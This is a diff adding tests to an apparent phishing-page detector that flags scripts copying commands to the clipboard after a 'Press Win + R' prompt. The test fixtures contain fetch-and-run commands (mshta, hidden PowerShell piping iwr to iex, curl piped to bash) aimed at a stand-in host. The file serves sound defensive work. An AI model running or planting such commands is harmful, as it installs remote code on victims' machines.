@@ -186,6 +186,16 @@ describe('sensitive fields', () => {
     expect(read(rows.join('')).asks.toSorted()).toEqual(['card', 'email', 'password']);
   });
 
+  test.each([
+    ['navigator.clipboard.writeText("mshta https://a.example/x # I am human")', true],
+    ['const c = `powershell -w hidden -c iwr a.example | iex`; navigator.clipboard.writeText(c)', true],
+    ['box.value = "curl -s https://a.example/i | bash"; box.select(); document.execCommand("copy")', true],
+    ['navigator.clipboard.writeText(location.href)', undefined],
+    ['const help = "powershell -File setup.ps1"', undefined],
+  ])('%s hands a command out: %s', (script, expected) => {
+    expect(read(`<p>Press Win + R</p><script>${script}</script>`).copiesCommand).toBe(expected);
+  });
+
   test('twelve word boxes under a heading about a phrase ask for a seed phrase', () => {
     expect(read(`<p>Secret recovery phrase</p>${'<input type=text>'.repeat(12)}`).asks).toEqual(['seed_phrase']);
   });
